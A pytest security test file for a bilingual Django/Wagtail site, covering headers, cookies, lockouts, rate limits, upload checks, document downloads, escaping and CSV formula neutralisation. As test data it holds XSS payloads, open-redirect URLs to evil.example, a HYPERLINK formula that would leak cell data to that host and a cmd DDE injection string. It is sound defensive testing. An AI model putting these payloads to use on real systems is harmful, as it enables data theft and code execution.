"""Security settings and behaviour (README.md, Security): production checks, headers, cookies,
sign-in lockout, limits on page passwords and password resets, uploads, document downloads,
escaping of what staff enter, CSV downloads without formulas."""

import csv
import io
import os
import re
import resource
import secrets
import struct
import subprocess
import sys
import threading
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from axes.models import AccessAttempt
from django.core.cache import caches
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.http import HttpResponse
from django.test import Client, RequestFactory
from django.urls import resolve, reverse
from wagtail.documents.models import Document
from wagtail.images.models import Image
from wagtail.models import Collection, CollectionViewRestriction, PageViewRestriction
from wagtail.rich_text import RichText

from ciso.models import HomePage, StandardPage
from ciso.security.headers import CSPMiddleware
from ciso.security.limits import PAGE_PASSWORD_LIMIT, PASSWORD_RESET_ACCOUNT_LIMIT, client_ip
from ciso.security.views import PasswordResetView, authenticate_with_password
from ciso.settings import redis_cache
from history.models import HistoryPage
from projects.models import ProjectPage
from tests.conftest import require_service

pytestmark = pytest.mark.django_db

BASE_DIR = Path(__file__).resolve().parents[2]
ONE_YEAR = 365 * 24 * 3600


# --- Production settings --------------------------------------------------------------------


def production_environment(**overrides):
    """The environment of a production server: DEBUG off, a real key, no test defaults."""
    env = {
        key: value
        for key, value in os.environ.items()
        if not key.startswith(("SECURE_", "DJANGO_", "SESSION_", "CSRF_", "BEHIND_"))
        and key not in ("DEBUG", "SECRET_KEY", "ALLOWED_HOSTS", "DATABASE_URL")
    }
    env.update(
        DJANGO_SETTINGS_MODULE="ciso.settings",
        DEBUG="false",
        SECRET_KEY=secrets.token_urlsafe(50),
        ALLOWED_HOSTS="ciso.example.org",
        CSRF_TRUSTED_ORIGINS="https://ciso.example.org",
        DATABASE_URL="postgres://ciso:secret@db.invalid:5432/ciso",
        BEHIND_TLS_PROXY="true",
    )
    env.update(overrides)
    return env


def manage(*args, env):
    return subprocess.run(
        [sys.executable, "manage.py", *args],
        cwd=BASE_DIR,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


def test_deployment_checks_pass_with_production_settings():
    result = manage("check", "--deploy", "--fail-level", "WARNING", env=production_environment())
    assert result.returncode == 0, result.stdout + result.stderr
    assert "no issues" in result.stdout


def test_deployment_checks_catch_a_weakened_setting():
    # The check above would notice: turning HSTS off makes it fail.
    env = production_environment(SECURE_HSTS_SECONDS="0")
    result = manage("check", "--deploy", "--fail-level", "WARNING", env=env)
    assert result.returncode != 0
    assert "security.W004" in result.stdout + result.stderr


SHOW_COOKIES = (
    "from django.conf import settings as s; "
    "print(s.SESSION_COOKIE_NAME, s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_NAME, "
    "s.CSRF_COOKIE_SECURE, s.SECURE_SSL_REDIRECT, s.SECURE_HSTS_SECONDS)"
)


def test_debug_mode_keeps_plain_cookies_for_plain_http():
    """`make run` serves http://127.0.0.1: Secure and __Host- cookies would be dropped there."""
    env = production_environment(DEBUG="true")
    result = manage("shell", "--no-imports", "-c", SHOW_COOKIES, env=env)
    assert result.stdout.split() == ["sessionid", "False", "csrftoken", "False", "False", "0"]

    result = manage("shell", "--no-imports", "-c", SHOW_COOKIES, env=production_environment())
    assert result.stdout.split() == [
        "__Host-sessionid",
        "True",
        "__Host-csrftoken",
        "True",
        "True",
        str(ONE_YEAR),
    ]


# --- Headers -------------------------------------------------------------------------------


def directives(response):
    policy = response["Content-Security-Policy"]
    return {
        name: values
        for name, *values in (part.split() for part in policy.split(";") if part.strip())
    }


@pytest.mark.parametrize(
    "path",
    ["/fr/", "/en/projects/", "/fr/nulle-part/", "/admin/login/", "/static/css/site.css"],
)
def test_every_response_carries_the_security_headers(client, path):
    response = client.get(path, secure=True)
    assert response.status_code in (200, 404), path
    policy = directives(response)
    assert policy["default-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in policy["script-src"]
    hsts = response["Strict-Transport-Security"]
    assert int(re.search(r"max-age=(\d+)", hsts).group(1)) >= ONE_YEAR
    assert "includeSubDomains" in hsts
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Referrer-Policy"] == "strict-origin-when-cross-origin"
    assert "camera=()" in response["Permissions-Policy"]
    assert "geolocation=()" in response["Permissions-Policy"]


def test_public_pages_allow_no_inline_style_the_admin_does(client):
    assert "'unsafe-inline'" not in directives(client.get("/fr/"))["style-src"]
    # Wagtail's admin writes style attributes; its scripts stay strict.
    admin = directives(client.get("/admin/login/"))
    assert "'unsafe-inline'" in admin["style-src"]
    assert "'unsafe-inline'" not in admin["script-src"]


def test_inline_script_data_gets_the_request_nonce():
    """An inline block (such as JSON-LD) written with nonce="{{ request.csp_nonce }}" is
    allowed by that response's policy, and only by it."""

    def view(request):
        return HttpResponse(f'<script type="application/ld+json" nonce="{request.csp_nonce}">')

    nonces = []
    for _ in range(2):
        request = RequestFactory().get("/fr/")
        response = CSPMiddleware(view)(request)
        nonce = re.search(r'nonce="([^"]+)"', response.content.decode()).group(1)
        assert f"'nonce-{nonce}'" in directives(response)["script-src"]
        nonces.append(nonce)
    assert nonces[0] != nonces[1]


def test_pages_may_not_be_framed_but_the_preview_may():
    """Wagtail renders the live preview (shown in an iframe of the admin) through a request
    marked is_preview; the browser test checks the real preview."""

    def view(request):
        return HttpResponse("page")

    request = RequestFactory().get("/fr/")
    assert directives(CSPMiddleware(view)(request))["frame-ancestors"] == ["'none'"]
    request.is_preview = True
    assert directives(CSPMiddleware(view)(request))["frame-ancestors"] == ["'self'"]


def executable_scripts(html):
    """The <script> elements of a page that would run: neither external nor data."""
    return [
        script
        for script in html.find_all("script")
        if not script.get("src")
        and script.get("type") not in ("application/json", "application/ld+json")
    ]


@pytest.mark.parametrize(
    "url",
    [
        lambda: reverse("wagtailadmin_pages:edit", args=[StandardPage.objects.first().pk]),
        lambda: reverse("wagtailadmin_pages:edit", args=[HistoryPage.objects.get().pk]),
        lambda: reverse("wagtailadmin_pages:edit", args=[ProjectPage.objects.first().pk]),
        lambda: reverse("ciso_translation_report"),
    ],
    ids=["standard-page", "history-page", "project-page", "translation-report"],
)
def test_admin_pages_have_no_inline_script(staff_client, html, url):
    response = staff_client.get(url())
    assert response.status_code == 200
    assert executable_scripts(html(response)) == []


def test_session_and_csrf_cookies_are_secure_host_only(client, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    response = client.get("/admin/login/", secure=True)
    csrf = response.cookies["__Host-csrftoken"]
    response = client.post(
        "/admin/login/",
        {"username": "editor", "password": "Pw-12345!", "csrfmiddlewaretoken": csrf.value},
        secure=True,
    )
    assert response.status_code == 302
    session = response.cookies["__Host-sessionid"]
    for cookie in (csrf, session):
        assert cookie["secure"] is True
        assert cookie["httponly"] is True
        assert cookie["path"] == "/"
        assert not cookie["domain"]


# --- Sign-in lockout -----------------------------------------------------------------------


def sign_in(client, username, password, address="203.0.113.5", language="en"):
    return client.post(
        "/admin/login/",
        {"username": username, "password": password},
        REMOTE_ADDR=address,
        HTTP_ACCEPT_LANGUAGE=language,
    )


def test_the_sixth_attempt_is_refused_with_a_message(client, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    for _ in range(4):
        response = sign_in(client, "editor", "wrong")
        assert response.status_code == 200
        assert response.context["form"].non_field_errors()
    # The fifth failure locks the pair (username, address) out for an hour…
    assert sign_in(client, "editor", "wrong").status_code == 429

    # … so the sixth attempt is refused, even with the right password.
    response = sign_in(client, "editor", "Pw-12345!")
    assert response.status_code == 429
    text = response.content.decode()
    assert "Too many failed attempts to sign in" in text
    assert "paused for 60 minutes" in text
    assert AccessAttempt.objects.get(username="editor").failures_since_start >= 5

    response = sign_in(client, "editor", "Pw-12345!", language="fr")
    assert response.status_code == 429
    assert "Trop de tentatives de connexion ont échoué" in response.content.decode()
    assert response["Content-Language"] == "fr"


def test_the_lockout_is_for_one_username_from_one_address(client, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    django_user_model.objects.create_superuser("other", "other@example.org", "Pw-12345!")
    for _ in range(5):
        sign_in(client, "editor", "wrong")
    assert sign_in(client, "editor", "Pw-12345!").status_code == 429
    # The same account from elsewhere, another account from here: not locked.
    assert sign_in(client, "editor", "Pw-12345!", address="198.51.100.7").status_code == 302
    client.logout()
    assert sign_in(client, "other", "Pw-12345!").status_code == 302


def without_tokens(response):
    body = response.content.decode()
    body = re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", body)
    body = re.sub(r'"CSRF_TOKEN": "[^"]+"', "", body)
    return re.sub(r'nonce="[^"]+"', "", body)


def test_unknown_user_and_wrong_password_get_the_same_answer(client, django_user_model):
    unknown = sign_in(client, "someone", "wrong")
    AccessAttempt.objects.all().delete()
    django_user_model.objects.create_user("someone", password="Pw-12345!", is_superuser=True)
    wrong_password = sign_in(client, "someone", "wrong")
    assert unknown.status_code == wrong_password.status_code == 200
    assert without_tokens(unknown) == without_tokens(wrong_password)


def test_client_address_behind_the_proxy(settings):
    factory = RequestFactory()
    request = factory.get("/", REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="6.6.6.6, 203.0.113.5")
    settings.TRUSTED_PROXY_COUNT = 0
    assert client_ip(request) == "10.0.0.2"  # no proxy trusted: the header is ignored
    settings.TRUSTED_PROXY_COUNT = 1
    assert client_ip(request) == "203.0.113.5"  # added by nginx; 6.6.6.6 came from the client
    settings.TRUSTED_PROXY_COUNT = 2
    assert client_ip(request) == "6.6.6.6"
    settings.TRUSTED_PROXY_COUNT = 3
    assert client_ip(request) == "10.0.0.2"  # fewer hops than proxies: not believed


# --- Uploads -------------------------------------------------------------------------------


def png(width, height, payload=b""):
    """A PNG file whose header claims width×height, with one tiny compressed row."""

    def chunk(kind, data):
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * (1 + 3 * min(width, 16))))
        + payload
        + chunk(b"IEND", b"")
    )


def upload_image(client, name, content):
    return client.post(
        reverse("wagtailimages:add"),
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": root().pk},
    )


def upload_document(client, name, content):
    return client.post(
        reverse("wagtaildocs:add"),
        {"title": name, "file": SimpleUploadedFile(name, content), "collection": root().pk},
    )


def root():
    return Collection.get_first_root_node()


def file_errors(response):
    """The codes of the upload form's errors on its file."""
    return [error.code for error in response.context["form"].errors.as_data().get("file", [])]


def test_a_normal_image_is_accepted(staff_client):
    response = upload_image(staff_client, "photo.png", png(16, 16))
    assert response.status_code == 302
    assert Image.objects.filter(title="photo.png").exists()


def test_an_oversize_image_is_refused(staff_client, settings):
    assert settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE == 10 * 1024 * 1024
    padding = b"\x00" * settings.WAGTAILIMAGES_MAX_UPLOAD_SIZE
    response = upload_image(staff_client, "big.png", png(16, 16, payload=padding))
    assert response.status_code == 200
    assert file_errors(response) == ["file_too_large"]
    assert not Image.objects.filter(title="big.png").exists()


def test_a_decompression_bomb_is_refused_without_decoding_it(staff_client):
    bomb = png(30_000, 30_000)
    assert len(bomb) < 1024
    peak_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    response = upload_image(staff_client, "bomb.png", bomb)
    peak_after = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    assert response.status_code == 200
    assert file_errors(response) == ["file_too_many_pixels"]  # a form error, not a 500
    assert not Image.objects.filter(title="bomb.png").exists()
    # 900 million pixels would need gigabytes; the peak (KiB) grew by less than 100 MiB.
    assert peak_after - peak_before < 100 * 1024


def test_svg_images_are_refused(staff_client):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    response = upload_image(staff_client, "logo.svg", svg)
    assert response.status_code == 200
    assert file_errors(response) == ["invalid_image_extension"]
    assert not Image.objects.filter(title="logo.svg").exists()


@pytest.mark.parametrize("name", ["setup.exe", "page.html", "drawing.svg", "script.js"])
def test_documents_outside_the_allow_list_are_refused(staff_client, name):
    response = upload_document(staff_client, name, b"MZ\x90\x00 not really a program")
    assert response.status_code == 200
    assert len(file_errors(response)) == 1
    assert not Document.objects.filter(title=name).exists()


def test_an_oversize_document_is_refused(staff_client, settings):
    assert settings.WAGTAILDOCS_MAX_UPLOAD_SIZE == 20 * 1024 * 1024
    content = b"x" * (settings.WAGTAILDOCS_MAX_UPLOAD_SIZE + 1)
    response = upload_document(staff_client, "huge.txt", content)
    assert response.status_code == 200
    assert "file_too_large" in file_errors(response)


# --- Document downloads --------------------------------------------------------------------


def document(name, content, collection=None):
    doc = Document(title=name, collection=collection or root())
    doc.file.save(name, ContentFile(content), save=False)
    doc.save()
    return doc


def test_documents_are_downloaded_with_a_sandboxing_policy(client):
    doc = document("notes.txt", b"<script>alert(1)</script>")
    response = client.get(doc.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'; sandbox"


def test_pdf_documents_open_in_the_browser_without_anything_active(client):
    doc = document("rapport.pdf", b"%PDF-1.4\n%%EOF\n")
    response = client.get(doc.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("inline")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'"


def test_private_documents_are_not_served_to_anonymous_visitors(django_user_model):
    private = root().add_child(name="Internal")
    CollectionViewRestriction.objects.create(
        collection=private, restriction_type=CollectionViewRestriction.LOGIN
    )
    doc = document("minutes.txt", b"confidential minutes", collection=private)

    response = Client().get(doc.url)
    assert response.status_code == 302
    assert "/login/" in response["Location"]

    member = Client()
    member.force_login(django_user_model.objects.create_user("member", password="Pw-12345!"))
    response = member.get(doc.url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"confidential minutes"


def test_password_protected_documents_ask_for_the_password(client):
    private = root().add_child(name="Board")
    CollectionViewRestriction.objects.create(
        collection=private, restriction_type=CollectionViewRestriction.PASSWORD, password="s3cret"
    )
    doc = document("budget.txt", b"the budget", collection=private)
    response = client.get(doc.url)
    assert response.status_code == 200
    assert b"the budget" not in response.content
    assert b'name="password"' in response.content


# --- What staff enter is escaped ----------------------------------------------------------


def test_scripts_in_titles_and_rich_text_never_run(client, html):
    page = StandardPage.objects.get(slug_fr="cqcam")
    page.title_fr = '<script>alert("title")</script>CQCAM'
    page.body_fr = [
        (
            "paragraph",
            RichText(
                '<p>Voir <a href="javascript:alert(1)">ce lien</a>'
                '<img src="x" onerror="alert(2)"></p><script>alert(3)</script>'
                '<p><a href="https://example.org/" onclick="alert(4)">partenaire</a></p>'
            ),
        )
    ]
    page.save_revision().publish()

    response = client.get("/fr/cqcam/")
    assert response.status_code == 200
    body = response.content.decode()
    doc = html(response)
    assert "<script>alert" not in body
    assert executable_scripts(doc) == []
    assert '<script>alert("title")</script>CQCAM' in doc.title.string  # shown as text
    assert not doc.find_all(href=re.compile(r"^\s*javascript:", re.I))
    assert not doc.find_all(
        lambda tag: any(attribute.lower().startswith("on") for attribute in tag.attrs)
    )
    # What is allowed stays: the text, the web link.
    assert "ce lien" in body
    assert doc.find("a", href="https://example.org/", string="partenaire")


def test_rich_text_intro_is_cleaned_too(client, html):
    history = HistoryPage.objects.get()
    history.intro_fr = '<p>Depuis 1975<img src=x onerror="alert(1)"></p>'
    history.save_revision().publish()
    response = client.get(history.url)
    doc = html(response)
    assert "Depuis 1975" in doc.find(class_="lead").get_text()
    assert not doc.find_all("img", onerror=True)


# --- Page passwords ------------------------------------------------------------------------


@pytest.fixture
def private_page():
    """A password-protected page with a subpage, which the same password opens."""
    page = HomePage.objects.get().add_child(
        instance=StandardPage(
            title_fr="Réservé", title_en="Members only", slug_fr="reserve", slug_en="members-only"
        )
    )
    page.add_child(
        instance=StandardPage(
            title_fr="Procès-verbal", title_en="Minutes", slug_fr="proces-verbal", slug_en="minutes"
        )
    )
    PageViewRestriction.objects.create(
        page=page, restriction_type=PageViewRestriction.PASSWORD, password="b0nne-clef"
    )
    return page


def password_form(client, url):
    """Where the password form of the page at `url` posts to, and the address it returns to."""
    from bs4 import BeautifulSoup

    form = BeautifulSoup(client.get(url).content, "html.parser").find("form", method="POST")
    return form["action"], form.find("input", attrs={"name": "return_url"})["value"]


def guess(client, form, password, address="203.0.113.5", return_url=None):
    action, page_url = form
    data = {"password": password, "return_url": page_url if return_url is None else return_url}
    return client.post(action, data, REMOTE_ADDR=address)


def assert_retry_after(response, seconds):
    """A 429 that says when to try again, and that no cache keeps."""
    assert response.status_code == 429
    assert seconds - 60 < int(response["Retry-After"]) <= seconds
    assert "no-store" in response["Cache-Control"]


def test_page_password_guesses_are_paused_after_ten_wrong_ones(client, private_page):
    form = password_form(client, "/fr/reserve/")
    for _ in range(9):
        response = guess(client, form, "mauvais")
        assert response.status_code == 200
        assert "Le mot de passe que vous avez saisi est incorrect" in response.content.decode()
    # The tenth wrong password pauses the form for this page and this address…
    response = guess(client, form, "mauvais")
    assert response.status_code == 429
    text = response.content.decode()
    assert "Trop de mots de passe erronés" in text
    assert "dans 15 minutes" in text
    assert 'name="password"' in text  # the form, to come back to later
    assert_retry_after(response, 15 * 60)
    # … so the right password is refused too, and the page stays closed.
    response = guess(client, form, "b0nne-clef")
    assert response.status_code == 429
    assert b'name="password"' in client.get("/fr/reserve/").content

    # In English on the English site; for the subpages too (the same password opens them).
    response = guess(client, password_form(client, "/en/members-only/minutes/"), "b0nne-clef")
    assert response.status_code == 429
    assert "Too many wrong passwords" in response.content.decode()
    assert response["Content-Language"] == "en"

    # Another address is not paused.
    assert guess(client, form, "b0nne-clef", address="198.51.100.7").status_code == 302


def test_the_page_password_pause_ends_and_a_success_clears_the_count(
    client, private_page, monkeypatch
):
    form = password_form(client, "/fr/reserve/")
    for _ in range(10):
        guess(client, form, "mauvais")
    assert guess(client, form, "b0nne-clef").status_code == 429
    later = time.time() + 15 * 60 + 1
    monkeypatch.setattr(time, "time", lambda: later)
    assert guess(client, form, "b0nne-clef").status_code == 302

    # The count starts again after a success: nine more mistakes do not pause the form.
    client.logout()
    for _ in range(9):
        assert guess(client, form, "mauvais").status_code == 200
    assert guess(client, form, "b0nne-clef").status_code == 302


def test_other_pages_passwords_are_counted_apart(client, private_page):
    other = HomePage.objects.get().add_child(
        instance=StandardPage(title_fr="Conseil", slug_fr="conseil", slug_en="board")
    )
    PageViewRestriction.objects.create(
        page=other, restriction_type=PageViewRestriction.PASSWORD, password="autre-clef"
    )
    form = password_form(client, "/fr/reserve/")
    for _ in range(10):
        guess(client, form, "mauvais")
    assert guess(client, form, "b0nne-clef").status_code == 429
    assert guess(client, password_form(client, "/fr/conseil/"), "autre-clef").status_code == 302


@pytest.mark.parametrize(
    ("url", "expected"),
    [("/fr/reserve/", "/fr/reserve/"), ("/en/members-only/", "/en/members-only/")],
)
@pytest.mark.parametrize(
    "return_url", ["https://evil.example/", "//evil.example/", "javascript:alert(1)", ""]
)
def test_an_unsafe_return_address_leads_back_to_the_page(
    client, private_page, url, expected, return_url
):
    response = guess(client, password_form(client, url), "b0nne-clef", return_url=return_url)
    assert response.status_code == 302
    assert response["Location"] == expected
    assert client.get(expected).status_code == 200  # and the page opens


def test_a_safe_return_address_is_followed(client, private_page):
    form = password_form(client, "/fr/reserve/proces-verbal/")
    assert form[1] == "/fr/reserve/proces-verbal/"
    response = guess(client, form, "b0nne-clef")
    assert response["Location"] == "/fr/reserve/proces-verbal/"


# --- Password reset ------------------------------------------------------------------------


def reset(client, email, address="203.0.113.5", language="en"):
    return client.post(
        "/admin/password_reset/",
        {"email": email},
        REMOTE_ADDR=address,
        HTTP_ACCEPT_LANGUAGE=language,
    )


def test_password_reset_is_limited_per_account(client, django_user_model, mailoutbox):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    django_user_model.objects.create_superuser("other", "other@example.org", "Pw-12345!")
    for _ in range(3):
        assert reset(client, "editor@example.org").status_code == 302
    assert len(mailoutbox) == 3
    # The fourth request for the account sends nothing, whatever the address or the case.
    response = reset(client, "Editor@Example.org")
    assert response.status_code == 429
    text = response.content.decode()
    assert "Too many requests to reset a password" in text
    assert "in 60 minutes" in text
    assert 'name="email"' in text
    assert_retry_after(response, 60 * 60)
    response = reset(client, "editor@example.org", address="198.51.100.7", language="fr")
    assert response.status_code == 429
    assert "Trop de demandes de réinitialisation" in response.content.decode()
    assert len(mailoutbox) == 3
    # Another account is not paused.
    assert reset(client, "other@example.org").status_code == 302
    assert len(mailoutbox) == 4


def test_password_reset_is_limited_per_address(client, mailoutbox):
    for n in range(10):
        assert reset(client, f"someone{n}@example.org").status_code == 302
    response = reset(client, "someone-else@example.org")
    assert response.status_code == 429
    assert "Too many requests to reset a password" in response.content.decode()
    assert reset(client, "someone-else@example.org", address="198.51.100.7").status_code == 302


def test_password_reset_answers_the_same_for_unknown_accounts(client, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    known = [reset(client, "editor@example.org") for _ in range(4)]
    unknown = [reset(client, "nobody@example.org") for _ in range(4)]
    assert [r.status_code for r in known] == [r.status_code for r in unknown] == [302] * 3 + [429]
    assert {r["Location"] for r in known[:3] + unknown[:3]} == {"/admin/password_reset/done/"}
    # The same page, but for the address typed in the box.
    assert without_tokens(known[3]).replace("editor@", "nobody@") == without_tokens(unknown[3])


# --- Either limit -------------------------------------------------------------------------


def test_attempt_limits_are_kept_in_redis_for_every_worker(settings):
    """With Redis (production), what one worker counted another one sees."""
    from ciso.security.limits import PAGE_PASSWORD_LIMIT

    require_service("127.0.0.1", 6379, "Redis")
    settings.CACHES = {
        **settings.CACHES,
        "default": {**redis_cache("redis://127.0.0.1:6379/15"), "KEY_PREFIX": secrets.token_hex()},
    }
    try:
        for _ in range(PAGE_PASSWORD_LIMIT.attempts - 1):
            PAGE_PASSWORD_LIMIT.count("203.0.113.5", 1)
        assert not PAGE_PASSWORD_LIMIT.paused_for("203.0.113.5", 1)
        caches["default"].close()
        # Another connection, as another gunicorn worker has.
        PAGE_PASSWORD_LIMIT.count("203.0.113.5", 1)
        caches["default"].close()
        assert 14 * 60 < PAGE_PASSWORD_LIMIT.paused_for("203.0.113.5", 1) <= 15 * 60
        assert not PAGE_PASSWORD_LIMIT.paused_for("203.0.113.6", 1)
    finally:
        caches["default"].delete_pattern("*")


def test_without_the_cache_page_passwords_and_resets_still_work(
    client, private_page, settings, closed_port, mailoutbox
):
    # Redis down: nothing is counted (nginx still limits), and nobody gets an error.
    settings.CACHES = {
        **settings.CACHES,
        "default": redis_cache(f"redis://127.0.0.1:{closed_port}/0"),
    }
    form = password_form(client, "/fr/reserve/")
    assert guess(client, form, "mauvais").status_code == 200
    assert guess(client, form, "b0nne-clef").status_code == 302
    assert reset(client, "someone@example.org").status_code == 302


def test_the_forms_post_to_the_limited_views(client, private_page, html):
    # Ours shadow Wagtail's routes of the same name at the same address (ciso/urls.py): should
    # an upgrade move Wagtail's, its forms would post past the limits.
    reset_url = reverse("wagtailadmin_password_reset")
    assert html(client.get("/admin/login/")).find("a", href=reset_url)
    assert resolve(reset_url).func.view_class is PasswordResetView
    for url in ("/fr/reserve/", "/en/members-only/minutes/"):
        assert resolve(password_form(client, url)[0]).func is authenticate_with_password


def at_once(count, request):
    """`request()` sent from `count` threads at the same moment, as a script sends parallel
    requests to the workers; the answers."""
    barrier = threading.Barrier(count)

    def run():
        barrier.wait()
        try:
            return request()
        finally:
            connection.close()  # each thread's own

    with ThreadPoolExecutor(count) as pool:
        return [answer.result() for answer in [pool.submit(run) for _ in range(count)]]


@pytest.fixture(params=["local memory", "Redis"])
def shared_cache(request, settings):
    """The cache the limits count in: each worker's own memory (make serve), or Redis."""
    if request.param == "Redis":
        require_service("127.0.0.1", 6379, "Redis")
        settings.CACHES = {
            **settings.CACHES,
            "default": {
                **redis_cache("redis://127.0.0.1:6379/15"),
                "KEY_PREFIX": secrets.token_hex(),
            },
        }
    yield
    if request.param == "Redis":
        caches["default"].delete_pattern("*")  # this test's prefix only
    else:
        caches["default"].clear()


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_parallel_page_password_guesses_are_counted_before_they_are_checked(
    private_page, shared_cache, monkeypatch
):
    import wagtail.forms

    checks = []
    compare = wagtail.forms.constant_time_compare

    def slow_compare(given, password):  # as slow as a real request, to let them overlap
        checks.append(given)
        time.sleep(0.05)
        return compare(given, password)

    monkeypatch.setattr(wagtail.forms, "constant_time_compare", slow_compare)
    form = password_form(Client(), "/fr/reserve/")
    answers = at_once(30, lambda: guess(Client(), form, "mauvais"))
    assert len(checks) == PAGE_PASSWORD_LIMIT.attempts
    # The wrong ones checked say so, or that the form is now paused (the tenth paused it).
    statuses = [answer.status_code for answer in answers]
    assert set(statuses) <= {200, 429}
    assert statuses.count(429) >= 30 - PAGE_PASSWORD_LIMIT.attempts + 1
    # And the right password, once paused, is refused without being checked.
    assert guess(Client(), form, "b0nne-clef").status_code == 429
    assert len(checks) == PAGE_PASSWORD_LIMIT.attempts


@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_parallel_password_resets_send_no_more_mails_than_the_limit(
    django_user_model, shared_cache, mailoutbox
):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "Pw-12345!")
    answers = at_once(20, lambda: reset(Client(), "editor@example.org"))
    assert len(mailoutbox) == PASSWORD_RESET_ACCOUNT_LIMIT.attempts
    statuses = [answer.status_code for answer in answers]
    assert statuses.count(302) == PASSWORD_RESET_ACCOUNT_LIMIT.attempts
    assert statuses.count(429) == 20 - PASSWORD_RESET_ACCOUNT_LIMIT.attempts


# --- Spreadsheets --------------------------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?"&A1,"Ouvrir")'


def csv_rows(response):
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(content)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("+33 1 23", "'+33 1 23"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Coopération", "Coopération"),
        ("a=1", "a=1"),
        ("", ""),
        (42, 42),
    ],
)
def test_spreadsheet_cells_never_start_a_formula(value, expected):
    from ciso.patches import spreadsheet_text

    assert spreadsheet_text(value) == expected


def test_translation_report_csv_does_not_run_a_formula_in_a_title(staff_client):
    # A draft page, not yet translated: listed under its French title.
    HomePage.objects.get().add_child(
        instance=StandardPage(title_fr=HYPERLINK, slug_fr="piege", live=False)
    )
    rows = csv_rows(staff_client.get("/admin/reports/translations/?export=csv"))
    titles = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in titles
    assert HYPERLINK not in titles
    # The Excel file keeps the title as it is, in a text cell (Wagtail's own rule).
    response = staff_client.get("/admin/reports/translations/?export=xlsx")
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for cell in sheet["A"] if cell.value == HYPERLINK]
    assert cells and all(cell.data_type == "s" for cell in cells)


def test_wagtail_reports_csv_does_not_run_a_formula_either(staff_client, django_user_model):
    page = StandardPage.objects.get(slug_fr="rqic")
    page.title = "@SUM(1+1)*cmd|' /C calc'!A0"
    page.locked = True
    page.locked_by = django_user_model.objects.get(username="staff")
    page.save()
    rows = csv_rows(staff_client.get("/admin/reports/locked/?export=csv"))
    assert [row[0] for row in rows[1:] if "SUM" in row[0]] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
